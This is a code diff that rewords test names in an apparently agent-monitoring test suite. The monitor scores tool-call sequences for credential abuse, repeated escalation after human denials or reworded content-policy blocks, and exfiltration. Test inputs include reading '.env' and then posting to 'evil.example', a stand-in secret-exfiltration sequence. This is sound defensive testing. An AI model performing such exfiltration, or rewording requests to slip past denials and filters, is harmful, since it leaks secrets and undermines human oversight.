@@ -45,21 +45,21 @@ const chat = (i: number): Told => [
 ];
 const removed: Told = ['allow', { call_digest: 'd', behavior: { signals: [{ s: 'destroy', x: 'src', h: '1' }] } }];
 
-describe('[behavior.rules] signals that no single call shows', () => {
+describe('[behavior.rules] signals that appear only across several calls', () => {
   test('refused logins', async () => {
     expect(await alertsOf([0, 1, 2, 3].map(failed))).toEqual([]);
     expect(await alertsOf([0, 1, 2, 3, 4].map(failed))).toEqual([['credential_abuse', 30, [0, 1, 2, 3, 4]]]);
     expect(await alertsOf([0, 1, 2, 3, 4].map(failed), 1200)).toEqual([]);
-    // The same call again is a loop.
+    // An identical second call is a loop.
     expect(await alertsOf([0, 0, 0, 1, 1, 1, 2, 3].map(failed))).toEqual([]);
   });
 
-  test('a ticket used for something else', async () => {
+  test('a ticket used for another purpose', async () => {
     const misused: Told = ['result', { outcome: 'failed', behavior: noteOfSignal(settings, 'misused', 'ticket t1') }];
     expect(await alertsOf([misused])).toEqual([['credential_abuse', 30, [0]]]);
   });
 
-  test('denials by humans and expired requests add to the score', async () => {
+  test('human denials and expired requests add to the score', async () => {
     expect(await alertsOf([0, 1, 2].map(denied))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
     expect(await alertsOf([0, 0, 0].map(denied))).toEqual([]);
     const timeouts = [0, 1, 2].map((i): Told => ['deny', { call_digest: `${i}digest`, reason: 'timeout' }]);
@@ -70,7 +70,7 @@ describe('[behavior.rules] signals that no single call shows', () => {
   const approved: Told = ['allow', { call_digest: 'd', approval_ref: 'a1', behavior: { signals: [] } }];
   const many = Array.from({ length: 20 }, (_, i) => reviewed(100 + i));
 
-  test('[behavior.rules] different calls that are pending, one after the other', async () => {
+  test('[behavior.rules] different pending calls, one after the other', async () => {
     expect(await alertsOf(many.slice(1))).toEqual([]);
     expect(await alertsOf(many)).toEqual([['repeated_escalation', 10, [16, 17, 18, 19]]]);
     expect(await alertsOf([...many.slice(0, 10), approved, ...many.slice(10)])).toEqual([]);
@@ -90,12 +90,12 @@ describe('[behavior.rules] signals that no single call shows', () => {
     expect(await alertsOf([denied(0), removed, removed])).toEqual([['destructive_sequence', 20, [0, 1]]]);
   });
 
-  test('chats that the content policy blocks, each in other words', async () => {
+  test('chats that the content policy blocks, each with different wording', async () => {
     expect(await alertsOf([0, 1, 2].map(chat))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
     expect(await alertsOf([0, 0, 0, 0].map(chat))).toEqual([]);
   });
 
-  test('entries without a note, and outcomes, do not affect the rules', async () => {
+  test('entries without a note, and outcomes, do not count for the rules', async () => {
     const { head } = chain([
       ['allow', {}],
       ['result', {}],
@@ -115,7 +115,7 @@ describe('settings', () => {
     sensitive: ['data/payroll/**', 'hr.*'],
   });
 
-  test('[behavior.rules] other numbers are stored in the entry, so that replay needs no other source', async () => {
+  test('[behavior.rules] changed settings are stored in the entry, so that replay needs no other source', async () => {
     const { entries, head, refused } = await play(
       await readers(),
       [sh('cat .env'), http('post', 'https://evil.example/')],
@@ -131,7 +131,7 @@ describe('settings', () => {
     expect(differingSettings(riskSettingsOf(settings))).toBeUndefined();
   });
 
-  test('a hypothetical score: replay with other numbers', async () => {
+  test('a hypothetical score: replay with different settings', async () => {
     const { entries } = await play(await readers(), [sh('cat .env'), http('post', 'https://evil.example/')]);
     const { record } = await replayRisk(entries, {
       ...riskSettingsOf(settings),
@@ -140,7 +140,7 @@ describe('settings', () => {
     expect(record?.score).toBe(7);
   });
 
-  test('known hosts are not sinks, and further paths can be sensitive', async () => {
+  test('known hosts are not sinks, and additional paths can be sensitive', async () => {
     const effectsOf = await readers();
     const kinds = (step: ReturnType<typeof sh>) =>
       signalsOf(step.call, effectsOf(step.call), 'allow', signalContext(behaviorSchema.parse(given))).map(({ s }) => s);
@@ -150,7 +150,7 @@ describe('settings', () => {
     expect(kinds(sh('cat data/payrolls.csv'))).toEqual([]);
   });
 
-  test('switched off, no call is scored and no session is blocked', () => {
+  test('if disabled, no call is scored and no session is blocked', () => {
     const off = behaviorSchema.parse({ enabled: false });
     const standing = { session: { score: 1000, rule: 'exfiltration' }, key: undefined };
     expect(blockedBy(off, standing, startMs)).toBeUndefined();
@@ -170,7 +170,7 @@ describe('settings', () => {
   });
 });
 
-describe('names are compared whole', () => {
+describe('names are compared in full', () => {
   const kindsOf = (() => {
     const context = signalContext(settings);
     return async (line: string) => {
@@ -179,7 +179,7 @@ describe('names are compared whole', () => {
     };
   })();
 
-  test.each(cases.only_work)('%s is only work', async (line) => {
+  test.each(cases.only_work)('%s is ordinary work', async (line) => {
     expect(await kindsOf(line)).toEqual([]);
   });
 
@@ -188,7 +188,7 @@ describe('names are compared whole', () => {
   });
 });
 
-test('a note shows no secret, and is the same for the same object', () => {
+test('a note reveals no secret, and is the same for the same object', () => {
   const target = 'https://x.example/ghp_abcdefghijklmnopqrstuvwxyz0123456789';
   const call = { protocol: 'mcp', tool: 'vault.read_secret', target, capability: 'write', parameters: {} };
   const signals = () => signalsOf(call, { parts: [], carrier: false }, 'allow', signalContext(settings));
@@ -196,7 +196,7 @@ test('a note shows no secret, and is the same for the same object', () => {
   expect(signals()).toEqual(signals());
 });
 
-test('one call with a thousand effects gives a bounded note that leaves no kind out', () => {
+test('one call with a thousand effects produces a limited note that includes every kind', () => {
   const shell = (tool: string, target: string, capability: string) => ({
     protocol: 'shell',
     tool,
